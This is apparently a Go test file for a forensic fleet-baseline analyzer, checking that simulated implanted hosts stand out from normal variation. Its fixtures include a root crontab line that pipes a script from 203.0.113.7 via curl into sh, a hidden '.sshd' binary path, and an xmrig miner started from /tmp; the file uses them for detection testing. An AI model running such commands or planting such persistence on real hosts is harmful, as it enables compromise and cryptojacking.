package analyze_test

import (
	"context"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/diffy-dfir/diffy/analyze"
	"github.com/diffy-dfir/diffy/collect"
	"github.com/diffy-dfir/diffy/diffytest/fleet"
)

// fleetBaseline analyzes hosts against a baseline fleet with the zero
// Baseline (its clock fixed).
func fleetBaseline(t *testing.T, hosts, base []collect.Result) *analyze.Report {
	t.Helper()
	return analyzeOK(t, analyze.Baseline{Now: func() time.Time { return collectedAt }}, analyze.Input{Key: "k", Results: hosts, Baseline: base})
}

// TestBaselineFleet: against a baseline of 200 hosts that vary (a
// splayed minute, a daemon on a random port on a tenth of them), hosts
// that vary the same way are no outliers, and what appeared since is: a
// row no baseline host has, a new value where the baseline's are
// dominated, a daemon under another parent, and a usual row gone.
func TestBaselineFleet(t *testing.T) {
	const n = 200
	rng := rand.New(rand.NewPCG(3, 4))
	vary := func(i int, h varHost) varHost {
		h.add("crontab", collect.Row{"event": "", "minute": fmt.Sprint(rng.IntN(60)), "hour": "*/6", "day_of_month": "*", "month": "*",
			"day_of_week": "*", "command": "root /usr/bin/chef-client -z", "path": "/etc/cron.d/chef"})
		if i%10 == 0 {
			port := fmt.Sprint(1024 + rng.IntN(30000))
			h.add("listening_ports", collect.Row{"address": "0.0.0.0", "port": port, "protocol": "6", "name": "java", "path": "/usr/bin/java", "cmdline": "/usr/bin/java -jar /opt/app/app.jar", "pid": "4000"})
		}
		return h
	}
	base := make([]varHost, n)
	now := make([]varHost, n)
	for i := range n {
		base[i] = vary(i, baseHost(i))
		now[i] = vary(i, baseHost(i))
	}
	now[11].add("crontab", collect.Row{"event": "", "minute": "*/5", "hour": "*", "day_of_month": "*", "month": "*", "day_of_week": "*",
		"command": "curl -fsSL http://203.0.113.7/x.sh | sh", "path": "/var/spool/cron/crontabs/root"})
	now[22]["processes"][1]["path"] = "/usr/local/sbin/.sshd"
	for _, r := range now[33]["processes"] {
		if r["name"] == "rsyslogd" {
			r["parent"] = now[33]["processes"][2]["pid"] // cron
		}
	}
	now[44]["processes"] = slices.DeleteFunc(now[44]["processes"], func(r collect.Row) bool { return r["name"] == "rsyslogd" })
	rep := fleetBaseline(t, varResults(now), varResults(base))
	if rep.BaselineHosts != n || rep.BaselineInstance != "" {
		t.Errorf("baseline hosts %d, instance %q; want %d and none", rep.BaselineHosts, rep.BaselineInstance, n)
	}
	want := []string{hostID(11), hostID(22), hostID(33), hostID(44)}
	if ids := outlierIDs(rep); !slices.Equal(ids, want) {
		t.Fatalf("outliers %v, want %v", ids, want)
	}
	for i, why := range []string{"no baseline host (of 200) has a crontab row like it", `path="/usr/local/sbin/.sshd", which no baseline host has`,
		`parent="cron", which no baseline host has, where 200 of the 200 baseline hosts with this row have "systemd"; 1 of the 200 hosts have it now`,
		"200 of the 200 baseline hosts have a processes row like it; this host and 0 other(s) of the 200 have none"} {
		h := rep.Outliers()[i]
		if f := h.Findings[0]; !f.Deciding || !strings.Contains(f.Why, why) {
			t.Errorf("%s: first finding %s %s %q, want %q", h.InstanceID, f.Kind, f.CommandID, f.Why, why)
		}
	}
	// One host against the fleet: there is no other host to tell a
	// change of the whole group from, and the comparison with the
	// baseline decides alone.
	for _, i := range []int{11, 12} {
		one := fleetBaseline(t, varResults(now[i:i+1]), varResults(base))
		want := 0
		if i == 11 {
			want = 1
		}
		if got := len(one.Outliers()); got != want {
			t.Errorf("host %d alone against the fleet: %d outliers, want %d", i, got, want)
		}
	}
}

// TestBaselineFleetWeekEarlier: the simulated group (every family of
// variation) against its own collection of a week before (some hosts
// replaced since, each rollout a step behind), with an implant spread to
// a share of the hosts since: every implant host is flagged, its rows
// first, and few other hosts are. The others are the known limits named
// in bench/README.md: an operator logged in on a host, when too few
// hosts show sessions for their rows to be learned as variation, and a
// package user's uid allocated anew on hosts where the package arrived
// since.
func TestBaselineFleetWeekEarlier(t *testing.T) {
	if testing.Short() || raceEnabled {
		t.Skip("a scoring test of 800 simulated hosts: not under -short or -race")
	}
	const n = 800
	sim := fleet.NewSim(fleet.SimConfig{Hosts: n, Seed: 2, Families: fleet.AllFamilies, Attacks: fleet.Attacks{Campaign: true}})
	week := sim.WeekEarlier()
	var now, base []collect.Result
	for i := range n {
		now = append(now, sim.Results(i)...)
		base = append(base, week.Results(i)...)
	}
	rep := fleetBaseline(t, now, base)
	ev := sim.Truth().Evaluate(rep)
	t.Logf("fleet baseline: %v", ev)
	if ev.Precision < 0.9 || ev.Recall < 1 || ev.Top3 < 1 {
		t.Errorf("%v: want every campaign host, its rows first, and precision 0.9 at least", ev)
	}
}

// TestBaselineStreamBatches: the Report of a Baseline stream given the
// Results shuffled, in batches of random sizes, is Analyze's on all of
// them at once, with one baseline instance and with a fleet.
func TestBaselineStreamBatches(t *testing.T) {
	f := fleet.Generate(fleet.Config{Seed: 41, Hosts: 120, Roles: 3, CanaryFraction: 0.05, CompromisedFraction: 0.03, PlantsPerHost: 2})
	res := f.Results(collectedAt)
	one := f.Hosts[0].Results(collectedAt)
	many := fleet.Generate(fleet.Config{Seed: 42, Hosts: 150, Roles: 3, CanaryFraction: 0.05}).Results(collectedAt)
	a := analyze.Baseline{Now: func() time.Time { return collectedAt }}
	ctx := context.Background()
	for name, base := range map[string][]collect.Result{"one instance": one, "fleet": many} {
		want := reportJSON(t, analyzeOK(t, a, analyze.Input{Key: "k", Results: res, Baseline: base}))
		rng := rand.New(rand.NewPCG(5, uint64(len(base))))
		shuffled := cloneResults(res)
		rng.Shuffle(len(shuffled), func(i, j int) { shuffled[i], shuffled[j] = shuffled[j], shuffled[i] })
		s, err := a.NewStream("k", base)
		if err != nil {
			t.Fatal(err)
		}
		for rest := shuffled; len(rest) > 0; {
			k := min(len(rest), 1+rng.IntN(40))
			if err := s.Add(ctx, rest[:k]); err != nil {
				t.Fatal(err)
			}
			rest = rest[k:]
		}
		rep, err := s.Report(ctx, nil)
		if err != nil {
			t.Fatal(err)
		}
		if got := reportJSON(t, rep); got != want {
			t.Errorf("%s: the stream's report differs from Analyze's", name)
		}
		if len(rep.Outliers()) == 0 {
			t.Errorf("%s: no outlier; the test checks less than it says", name)
		}
	}
}

// TestBaselineFleetRecombination: against a baseline fleet of two images
// (rsyslogd runs as its user, uid 104, on one, as root on the other: not
// an id drift, see analyze's drifted) where rsyslogd's
// binary was upgraded under it on some hosts of the second ("(deleted)"),
// a host of the first image upgraded since is a recombination of what the
// baseline holds (each value is on baseline rows that differ in one column
// of two) and no outlier; rsyslogd from a new path is one column away
// from the baseline, and an outlier. A job caught running (started a
// minute before the collection, by init, from the fleet's directories)
// does not decide; the same row running for hours does, and so does the
// job caught running from /tmp (youngRule, as Clustering has it).
func TestBaselineFleetRecombination(t *testing.T) {
	const n = 200
	img := func(i int, h varHost) varHost {
		h.add("processes", collect.Row{"pid": "500", "name": "dbus-daemon", "path": "/usr/bin/dbus-daemon", "cmdline": "/usr/bin/dbus-daemon --system",
			"uid": "101", "parent": "1", "start_time": "2"})
		for _, r := range h["processes"] {
			if r["name"] == "rsyslogd" && i%2 == 1 {
				r["uid"] = "0"
				if i%10 == 1 {
					r["path"] = "/usr/sbin/rsyslogd (deleted)"
				}
			}
		}
		return h
	}
	base := make([]varHost, n)
	now := make([]varHost, n)
	for i := range n {
		base[i] = img(i, baseHost(i))
		now[i] = img(i, baseHost(i))
	}
	rsyslogd := func(h varHost) collect.Row {
		for _, r := range h["processes"] {
			if r["name"] == "rsyslogd" {
				return r
			}
		}
		return nil
	}
	rsyslogd(now[4])["path"] = "/usr/sbin/rsyslogd (deleted)" // image uid 104, upgraded since
	rsyslogd(now[6])["path"] = "/var/tmp/.r/rsyslogd"
	job := func(path string, start int64) collect.Row {
		return collect.Row{"pid": "9000", "name": "apt-get", "path": path, "cmdline": "apt-get -qq -y update", "uid": "0", "parent": "1",
			"start_time": fmt.Sprint(start)}
	}
	now[8].add("processes", job("/usr/bin/apt-get", collectedAt.Unix()-60))
	now[10].add("processes", job("/usr/bin/apt-get", collectedAt.Unix()-6*3600))
	// Caught running too, but from where anyone may write (youngRule).
	now[12].add("processes", job("/tmp/apt-get", collectedAt.Unix()-60))
	rep := fleetBaseline(t, varResults(now), varResults(base))
	if ids, want := outlierIDs(rep), []string{hostID(6), hostID(10), hostID(12)}; !slices.Equal(ids, want) {
		t.Errorf("outliers %v, want %v", ids, want)
	}
	for _, h := range rep.Hosts {
		if h.InstanceID != hostID(4) && h.InstanceID != hostID(8) {
			continue
		}
		said := false
		for _, f := range h.Findings {
			if f.Deciding {
				t.Errorf("%s: deciding finding %q", h.InstanceID, f.Why)
			}
			said = said || f.Kind == analyze.KindAdded && (strings.Contains(f.Why, "recombination") || strings.Contains(f.Why, "caught running"))
		}
		if !said {
			t.Errorf("%s: findings %+v; want the row listed as a recombination or a process caught running", h.InstanceID, h.Findings)
		}
	}
}

// TestBaselineFleetCampaignKeyNoActivity: the simulated group of seed 13
// (200 hosts, every family) against its week-old collection, the
// campaign on 18 hosts: root's key that the campaign adds is of a
// template the baseline never had, explained only by a spread context
// of it (the baseline's keys vary by user), and is no benign activity
// that would excuse the miner and the crontab line on exactly its
// hosts: every campaign host is flagged (before, none was).
func TestBaselineFleetCampaignKeyNoActivity(t *testing.T) {
	if raceEnabled {
		t.Skip("a scoring test of 200 simulated hosts: not under -race")
	}
	const n = 200
	sim := fleet.NewSim(fleet.SimConfig{Hosts: n, Seed: 13, Families: fleet.AllFamilies, Attacks: fleet.Attacks{Campaign: true}})
	week := sim.WeekEarlier()
	var now, base []collect.Result
	for i := range n {
		now = append(now, sim.Results(i)...)
		base = append(base, week.Results(i)...)
	}
	ev := sim.Truth().Evaluate(fleetBaseline(t, now, base))
	if ev.Compromised < 10 || ev.Recall < 1 {
		t.Errorf("%v: want every one of the campaign's hosts (10 or more) flagged", ev)
	}
}

// TestBaselineFleetSessions: an operator logged in now (sshd's per-login
// processes under the listener, a shell under them) is no outlier against
// a baseline that had no session; the same session with a miner started
// from /tmp in the shell is (markBaselineSessions, as Clustering's
// markSessions and keepDeciding have it).
func TestBaselineFleetSessions(t *testing.T) {
	const n = 200
	base := make([]varHost, n)
	now := make([]varHost, n)
	dbus := collect.Row{"pid": "500", "name": "dbus-daemon", "path": "/usr/bin/dbus-daemon", "cmdline": "/usr/bin/dbus-daemon --system",
		"uid": "101", "parent": "1", "start_time": "2"}
	for i := range n {
		base[i] = baseHost(i).add("processes", dbus)
		now[i] = baseHost(i).add("processes", dbus)
	}
	session := func(i int) {
		sshd := now[i]["processes"][1]["pid"]
		now[i].add("processes",
			collect.Row{"pid": "7001", "name": "sshd", "path": "/usr/sbin/sshd", "cmdline": "sshd: ubuntu [priv]", "uid": "0", "parent": sshd, "start_time": "100"},
			collect.Row{"pid": "7002", "name": "sshd", "path": "/usr/sbin/sshd", "cmdline": "sshd: ubuntu@pts/0", "uid": "1000", "parent": "7001", "start_time": "100"},
			collect.Row{"pid": "7003", "name": "bash", "path": "/usr/bin/bash", "cmdline": "-bash", "uid": "1000", "parent": "7002", "start_time": "100"})
	}
	session(5)
	session(7)
	now[7].add("processes", collect.Row{"pid": "7004", "name": "xmrig", "path": "/tmp/xmrig", "cmdline": "/tmp/xmrig -o pool.example:3333",
		"uid": "1000", "parent": "7003", "start_time": "100"})
	rep := fleetBaseline(t, varResults(now), varResults(base))
	if ids, want := outlierIDs(rep), []string{hostID(7)}; !slices.Equal(ids, want) {
		t.Errorf("outliers %v, want %v", ids, want)
	}
	for _, h := range rep.Hosts {
		if h.InstanceID != hostID(5) {
			continue
		}
		said := false
		for _, f := range h.Findings {
			said = said || strings.Contains(f.Why, "login session of ubuntu")
		}
		if !said {
			t.Errorf("%s: findings %+v; want the session's rows named as ubuntu's login session", h.InstanceID, h.Findings)
		}
	}
}

// TestBaselineFleetRemovedRole: a row the baseline's hosts of one role
// (a twentieth of them) lacked is no finding that decides on a host that
// lacks it now, the role's or another's (what this rule cannot tell: a
// host of the other role that lost it); a row every baseline host had,
// lost on one host, still decides.
func TestBaselineFleetRemovedRole(t *testing.T) {
	const n = 200
	backup := collect.Row{"event": "", "minute": "44", "hour": "5", "day_of_month": "*", "month": "*", "day_of_week": "*",
		"command": "root /usr/local/bin/backup-etc", "path": "/etc/cron.d/backup-etc"}
	base := make([]varHost, n)
	now := make([]varHost, n)
	for i := range n {
		base[i], now[i] = baseHost(i), baseHost(i)
		if i%20 != 0 {
			base[i].add("crontab", backup)
			if i != 45 {
				now[i].add("crontab", backup)
			}
		}
	}
	now[44]["processes"] = slices.DeleteFunc(now[44]["processes"], func(r collect.Row) bool { return r["name"] == "rsyslogd" })
	rep := fleetBaseline(t, varResults(now), varResults(base))
	if ids, want := outlierIDs(rep), []string{hostID(44)}; !slices.Equal(ids, want) {
		t.Errorf("outliers %v, want %v", ids, want)
	}
	for _, h := range rep.Hosts {
		if (h.InstanceID == hostID(20) || h.InstanceID == hostID(45)) && (len(h.Findings) != 1 || !strings.Contains(h.Findings[0].Why, "the baseline's own variation")) {
			t.Errorf("%s: findings %+v; want the lacked row listed as the baseline's own variation", h.InstanceID, h.Findings)
		}
	}
}
